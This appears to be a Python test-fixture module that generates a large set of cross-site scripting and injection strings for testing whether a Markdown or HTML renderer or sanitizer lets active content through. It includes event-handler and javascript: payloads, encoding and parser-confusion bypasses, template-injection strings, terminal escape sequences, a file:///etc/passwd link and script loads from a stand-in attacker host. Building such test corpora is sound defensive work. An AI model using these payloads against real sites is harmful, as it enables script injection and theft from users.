"""Texts that would run script, load something or break out, if any place let them.

They are made from lists: the active content, its tag, its spelling, and its surroundings. Each that
could call something calls `alert`, so that a browser can report whether it ran; each that could
load something loads from `https://evil.example`.
"""

# ruff: noqa: E501  (tables of texts that cannot be broken)
from __future__ import annotations

from collections.abc import Iterator
from itertools import product

SCRIPT = "alert(1)"
EVIL = "https://evil.example"

_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
    "oninput", "onpointerenter", "onkeydown", "onpointerdown", "onscrollend", "onwheel",
    "onbeforetoggle", "oncontentvisibilityautostatechange",
)  # fmt: skip
_ELEMENTS = (
    "img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus",
    "details open", "marquee", "object data=x", "embed src=x", "select autofocus", "a href=#",
    "div", "p", "span", "math", "table background=x", "style", "link rel=stylesheet href=x",
    "textarea autofocus", "button autofocus", "form", "isindex", "keygen autofocus", "video><source",
    "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "custom-element", "dialog open",
)  # fmt: skip
_QUOTES = ("{}", '"{}"', "'{}'", '"javascript:{}"')
_LINKS = (
    "javascript:{s}", "JaVaScRiPt:{s}", "java\tscript:{s}", "java\nscript:{s}", "java\rscript:{s}", " javascript:{s}", "\x01javascript:{s}",
    "javascript&colon;{s}", "javascript&#58;{s}", "javascript&#x3a;{s}", "&#106;avascript:{s}", "&#x6A;avascript:{s}", "&#0000106avascript:{s}",
    "java&Tab;script:{s}", "java&NewLine;script:{s}", "data:text/html,<script>{s}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={s}>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "//evil.example/x", "\\\\evil.example\\x", "http:evil.example", "https:/\\evil.example",
    "javascript://%0a{s}", "javascript:/*--></title></style></textarea></script><svg onload={s}>", "mailto:x@y?subject=<script>{s}</script>",
    'https://a.example/"onmouseover="{s}', "ftp://evil.example", "https://a.example/'onmouseover='{s}", "https://a.example/><script>{s}</script>",
)  # fmt: skip
"""Addresses that act as links or frames."""
_QUIET_LINKS = (
    "\x00javascript:{s}", "javascript\x00:{s}", "%6Aavascript:{s}", "javascript%3A{s}", "vbscript:msgbox(1)", "data:application/xhtml+xml,<x/>",
    "feed:javascript:{s}", "view-source:javascript:{s}", "jar:javascript:{s}", "blob:{s}", "file:///etc/passwd", "filesystem:x",
    "intent:x#Intent;S.x={s};end", "about:blank", "ＪＡＶＡＳＣＲＩＰＴ:{s}", "jav\xadascript:{s}", "javascript\u200b:{s}", "\u202ejavascript:{s}", "tel:1",
    "ws://evil",
)  # fmt: skip
"""Addresses that only act in other browsers, or that must not be shown at all."""
_TEMPLATES = (
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}",
    "{%raw%}<script>alert(1)</script>{%endraw%}", "[[${alert(1)}]]", "*{alert(1)}", "@{alert(1)}",
    "{{{x}}}", "<?php echo 1 ?>", "<script type=text/template>", "{{#with x}}", "{!alert(1)!}",
)  # fmt: skip
_NESTINGS = (
    "<svg><style><img src=x onerror={s}>", '<svg></p><style><a id="</style><img src=1 onerror={s}>">',
    '<noscript><p title="</noscript><img src=x onerror={s}>">', '<svg><foreignObject><iframe srcdoc="<script>{s}</script>">',
    "<svg><script>{s}</script>", "<svg><script href=https://evil.example/x.js></script>", '<svg><a xlink:href="javascript:{s}"><text>x</text></a>',
    "<svg><a><animate attributeName=href values=javascript:{s} /><text>x</text></a>", "<svg><image href=https://evil.example/i>",
    "<template></template><script>{s}</script>", "<title></title><img src=x onerror={s}>", "<textarea></textarea><script>{s}</script>",
    "<xmp></xmp><img src=x onerror={s}>", "<iframe srcdoc='<script>{s}</script>'>", "<object data='data:text/html,<script>{s}</script>'>",
    "<embed src='data:text/html,<script>{s}</script>'>", "<base href=https://evil.example/><img src=b>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/r'>", "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/b)}</style>", "<div style=background:url(https://evil.example/c)>x</div>",
    "<!--><script>{s}</script>-->", "<!--[if IE]--><script>{s}</script><!--[endif]-->", "<svg><![CDATA[x]]></svg><script>{s}</script>",
    "</p></div></li></td></tr></table><script>{s}</script>", "</code></pre><script>{s}</script>", "</details></summary><script>{s}</script>",
    '"><script>{s}</script>', "'><script>{s}</script>", "</title><script>{s}</script>", "</style><script>{s}</script>", "--><script>{s}</script>",
    "]]><script>{s}</script>", "<<script>{s}//<</script>", "<script type=text/javascript>{s}</script>", "<script\x0c>{s}</script>",
    "<script/x>{s}</script>", '<img/src="x"/onerror={s}>', "<form id=document><input name=cookie><button formaction=javascript:{s}>",
    "<input type=image src=https://evil.example/j>", "<video poster=https://evil.example/p>", "<audio src=https://evil.example/a autoplay>",
    "<picture><source srcset=https://evil.example/s><img></picture>", "<img srcset=https://evil.example/t>", "<image src=https://evil.example/u>",
    "<frameset onload={s}>", "<dialog open><button onclick={s}>", "<slot onslotchange={s}>", "<body background=https://evil.example/x>",
    "<menu onclick={s}>", "<x-y is=z onclick={s}>", "<script>{s}</script>", "<script>\u2028{s}</script>", "\ufeff<script>{s}</script>",
    "\ud800<script>{s}</script>",
)  # fmt: skip
"""HTML that acts in any page."""
_QUIET = (
    "<math><mtext><table><mglyph><style><img src=x onerror={s}>", '<math><mi//xlink:href="data:x,<script>{s}</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
    '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><a href=\'javascript:{s}\'/></svg>#x">',
    "<plaintext><img src=x onerror={s}>", "<listing>&lt;img src=x onerror={s}&gt;</listing>", "<link rel=import href=https://evil.example>",
    '<div style="width:expression({s})">', '<div style="-moz-binding:url(https://evil.example/x)">', "<p style=position:fixed;inset:0>",
    "<?xml-stylesheet href='javascript:{s}'?>", "<scr<script>ipt>{s}</scr</script>ipt>", "<script\x00>{s}</script>", "<\x00script>{s}</script>",
    "<scr\x00ipt>{s}</script>", "<img\x0bsrc=x\x0bonerror={s}>", "<img src=x\xa0onerror={s}>", "<img src=x onerror\x00={s}>",
    "<a href=x id=location>", "<img name=getElementById>", "<a id=x><a id=x name=y href=https://evil.example>", "<math href=javascript:{s}>x",
    "<applet code=x>", "<bgsound src=https://evil.example/v>", "<layer src=https://evil.example/w>", "<portal src=https://evil.example>",
    "&lt;script&gt;{s}&lt;/script&gt;", "&#60;script&#62;{s}&#60;/script&#62;", "%3Cscript%3E{s}%3C/script%3E", "＜script＞{s}＜/script＞", "‹script›{s}",
    "<ſcript>{s}</ſcript>", "<ıframe onload={s}>", "+ADw-script+AD4-{s}+ADw-/script+AD4-", "<\ud800script>{s}", "\U000e003cscript\U000e003e",
)  # fmt: skip
"""HTML that acts in other browsers, when it is decoded twice or parsed again, or by its mere
name."""
_STEERING = (
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07", "\x1b]0;<script>alert(1)</script>\x07", "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m",
    "\x1b[38;5;999m\"><script>alert(1)</script>", "\x1b[;\" onload=alert(1) \"m<x>", "\x9b31m<svg onload=alert(1)>", "\x1bP<script>alert(1)</script>\x1b\\",
    "a\x08<script>alert(1)</script>", "x\r<script>alert(1)</script>", "\x1b[<script>alert(1)</script>m", "\x1b[1m" * 40 + "<b onclick=alert(1)>", "\x1b",
)  # fmt: skip
_NAMES = (
    "../../<img src=x onerror=alert(1)>.png", "a\" onmouseover=\"alert(1).txt", "x'><svg onload=alert(1)>.md", "con<script>alert(1)</script>.py",
    "\u202egnp.exe", "a.png\x00.html", "javascript:alert(1)", "`<b>`.js", "a|b.csv", "[x](javascript:alert(1)).md", "![](https://evil.example/n).md",
)  # fmt: skip
_AROUND = (
    "{}", "text {} text", "`{}`", "```\n{}\n```", "```html\n{}\n```", "~~~python\n{}\n~~~", "    {}", "# {}", "> {}", "- {}", "1. {}",
    "- [x] {}", "| a | b |\n|---|---|\n| {} | x |", "**{}**", "~~{}~~", "[{}](https://a.example)", "![{}](x)", "[x](https://a.example \"{}\")",
    "x[^1]\n\n[^1]: {}", "```{}\nx\n```", "\\{}", "https://a.example/{}", "a@b.example{}", "{}\n===", "<div>\n{}\n</div>", "&{};", "{}\n{}",
)  # fmt: skip
_AROUND_LINKS = (
    "[x]({})", "[x](<{}>)", "![x]({})", "![x](<{}> 't')", "<{}>", "[a]\n\n[a]: {}", "[a]\n\n[a]: <{}> '{}'", "<a href=\"{}\">x</a>",
    "<a href='{}'>x</a>", "<svg><a href=\"{}\"><text>x</text></a></svg>", "<iframe src=\"{}\">", "<form><button formaction=\"{}\">x</button></form>",
)  # fmt: skip


def _with_script(templates: tuple[str, ...]) -> Iterator[str]:
    for each in templates:
        yield each.replace("{s}", SCRIPT)


def _handlers() -> Iterator[str]:
    """Yield every event on every element, in every way to quote it."""
    for number, (element, event) in enumerate(product(_ELEMENTS, _EVENTS)):
        yield f"<{element} {event}={_QUOTES[number % len(_QUOTES)].format(SCRIPT)}>x"


_ACTING_TAGS = {
    "script": ">{s}</script>",
    "iframe": " srcdoc='<script>{s}</script>'>",
    "object": " data='data:text/html,<script>{s}</script>'>",
    "svg": " onload={s}>",
    "style": " onload={s}>x</style>",
    "math": " onclick={s}>x</math>",
    "base": " href=https://evil.example/><img src=y onerror={s}>",
    "meta": " http-equiv=refresh content='0;url=https://evil.example/m'>",
    "link": " rel=stylesheet href=https://evil.example/l onerror={s}>",
    "embed": " src='data:text/html,<script>{s}</script>'>",
}
"""What triggers each of them."""


def _cased() -> Iterator[str]:
    """Yield tags in odd cases and spacings, and a few that act only when decoded twice."""
    for tag, rest in _ACTING_TAGS.items():
        acting = rest.replace("{s}", SCRIPT)
        for form in (tag, tag.upper(), tag.title(), f"{tag}/", f"{tag}\t", f"{tag}\n"):
            yield f"<{form}{acting}"
        yield f"<{tag}{acting}".replace("<", "&lt;").replace(">", "&gt;")


def _attributes() -> Iterator[str]:
    """Yield attributes that load or run without an event."""
    names = (
        "src", "href", "xlink:href", "action", "formaction", "data", "poster", "background", "srcset", "cite", "ping", "manifest", "profile",
        "longdesc", "usemap", "codebase", "classid", "dynsrc", "lowsrc", "srcdoc", "style", "id", "name", "class", "is", "slot", "part", "nonce",
    )  # fmt: skip
    for name, link in product(names, (f"javascript:{SCRIPT}", f"{EVIL}/{{}}")):
        yield f'<a {name}="{link}" onclick={SCRIPT}>x</a><img {name}="{link}"><button {name}="{link}">'
        yield f'<iframe {name}="{link}"></iframe><img src=x {name}="{link}" onerror={SCRIPT}>'


def _in_markdown() -> Iterator[str]:
    """Yield active content in each place of Markdown: HTML in place of text, addresses in place of
    links."""
    acting = [*_with_script(_NESTINGS), *list(_handlers())[::7], *_TEMPLATES[::5]]
    for around, each in product(_AROUND, acting):
        yield around.replace("{}", each)
    for around, each in product(_AROUND_LINKS, _with_script(_LINKS)):
        yield around.replace("{}", each)


def _deep() -> Iterator[str]:
    """Yield many repetitions of one construct."""
    for each in ("[", "*", ">", "- ", "`", "<a>", "<b><i>", "![", "](", "|", "~~", "&", "<", "\\"):
        yield each * 400


VECTORS: list[str] = list(
    dict.fromkeys(
        [
            *_with_script(_LINKS), *_with_script(_NESTINGS), *_with_script(_QUIET_LINKS), *_with_script(_QUIET), *_handlers(), *_cased(), *_attributes(), *_TEMPLATES, *_STEERING, *_NAMES,
            *_in_markdown(), *_deep(),
        ]
    )
)  # fmt: skip
"""All of them, each once."""
